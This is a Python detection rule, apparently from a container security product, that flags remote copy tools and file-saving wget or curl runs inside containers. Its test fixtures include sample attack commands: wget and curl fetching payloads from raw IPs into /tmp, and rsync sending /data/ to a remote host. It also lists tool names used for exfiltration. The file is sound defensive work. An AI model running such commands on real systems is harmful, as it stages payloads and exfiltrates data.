"""Files copied in or out of a container with a remote copy tool: payloads downloaded, data exfiltrated."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

#: Tools whose only job is moving files between machines (scp and sftp are ``runtime.ssh_from_container``'s).
COPY_TOOLS = frozenset({"rsync", "dcp", "ftp", "tftp", "lftp", "ncftp", "rclone", "croc", "wput"})
#: Download tools: wget always saves (unless told to write to stdout), curl only with an output option.
DOWNLOADERS = frozenset({"wget", "curl"})
CURL_SAVES = frozenset({"-o", "-O", "--output", "--remote-name", "--remote-name-all", "-J", "--output-dir"})
#: wget writing the page to stdout (``-O -``, ``-O-``, ``-qO-``) downloads nothing: a probe or a pipe.
WGET_TO_STDOUT = ("-O-", "-qO-", "-qO", "--output-document=-")
#: Destinations of probes and sidecar calls: copying from them is the pod talking to itself.
LOCAL_HOSTS = ("localhost", "127.0.0.1", "[::1]", "0.0.0.0")


def in_container(event: Event) -> bool:
    """A container's process, with or without pod metadata: the runtime's container id is enough."""
    return bool(event.container.id or event.k8s.container_id)


def downloads(program: str, args: list[str]) -> bool:
    """A wget or curl that saves a remote file (not one writing to stdout, not one asking the pod itself)."""
    if any(host in arg for arg in args[1:] for host in LOCAL_HOSTS):
        return False
    if program == "curl":
        return any(_curl_saves(arg, args[i + 2 : i + 3]) for i, arg in enumerate(args[1:]))
    writes_stdout = any(arg in WGET_TO_STDOUT or arg.endswith("O-") for arg in args[1:]) or (
        "-O" in args and args[args.index("-O") + 1 : args.index("-O") + 2] == ["-"])
    return not writes_stdout


def _curl_saves(arg: str, value: list[str]) -> bool:
    """A curl output option (``-o file``, ``-O``, a short-option cluster with either) that keeps the file."""
    short_cluster = arg.startswith("-") and not arg.startswith("--") and ("o" in arg or "O" in arg)
    if not (arg in CURL_SAVES or short_cluster):
        return False
    return value not in (["/dev/null"], ["-"])


def copy_kind(event: Event) -> str:
    """``copy`` (a remote copy tool), ``download`` (wget or curl saving a file), or ''."""
    if not in_container(event):
        return ""
    program = program_name(event)
    if program in COPY_TOOLS:
        return "copy"
    return "download" if program in DOWNLOADERS and downloads(program, event.actor.args) else ""


def copy_context(event: Event) -> dict[str, Any]:
    return {"exe": event.actor.exe, "tool": program_name(event), "how": copy_kind(event),
            "command": " ".join(event.actor.args), "parent_exe": event.actor.parent_exe,
            "where": container_label(event), "image": event.k8s.image or event.container.image}


DETECTION = EventDetection(
    id="runtime.remote_copy_tool_in_container",
    title="Remote file copy tool in a container",
    alert_title="{tool} ({how}) in {where}",
    description=(
        "A remote copy tool (rsync, ftp, tftp, rclone, …) started in a container, or wget or curl saved a remote "
        "file there. Containers run what their image ships; copying files in at run time is how attackers stage "
        "tools and payloads (ingress tool transfer), and copying them out is exfiltration. Downloads to stdout and "
        "requests to the pod itself (probes) are not reported; scp and sftp are runtime.ssh_from_container's."
    ),
    severity="medium",
    mitre=["T1105", "T1048"],
    tags=["runtime", "command_and_control", "exfiltration"],
    references=["https://attack.mitre.org/techniques/T1105/", "https://attack.mitre.org/techniques/T1048/"],
    false_positives=["Entrypoints that fetch configuration or plugins at start; backup sidecars running rsync."],
    kinds=["process.exec"],
    exe_names=COPY_TOOLS | DOWNLOADERS,
    match=lambda event: bool(copy_kind(event)),
    context=copy_context,
    dedup="{cluster}/{namespace}/{pod}/{where}/{tool}",
    examples=[
        Example(
            name="wget fetching a payload into /tmp (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/wget", arguments="http://45.9.148.99/x -O /tmp/x",
                                   parent="/bin/sh"),
        ),
        Example(
            name="curl -o saving a script (Falco, container without pod metadata)",
            source="falco",
            fires=True,
            record=falco_record(
                "Launch Ingress Remote File Copy Tools in Container", "execve",
                {"proc.exepath": "/usr/bin/curl", "proc.name": "curl",
                 "proc.cmdline": "curl -sSL -o /tmp/k.sh https://185.199.108.133/k.sh",
                 "k8s.ns.name": None, "k8s.pod.name": None},
                priority="Notice",
            ),
        ),
        Example(
            name="rsync copying data out (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/rsync", arguments="-a /data/ backup@198.18.0.9:/srv/dump/"),
        ),
        Example(
            name="busybox wget probe writing to stdout",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/bin/wget", arguments="-q -O- http://10.96.0.20:8080/ready"),
        ),
        Example(
            name="curl health check of the pod itself",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/curl", arguments="-fsS -o /dev/null http://localhost:9000/healthz"),
        ),
        Example(
            name="curl calling an API without saving a file",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/curl", arguments="-s https://api.example.com/v1/status"),
        ),
        Example(
            name="rsync on the node",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/rsync", arguments="-a /etc/ /backup/etc/", host=True),
        ),
    ],
)
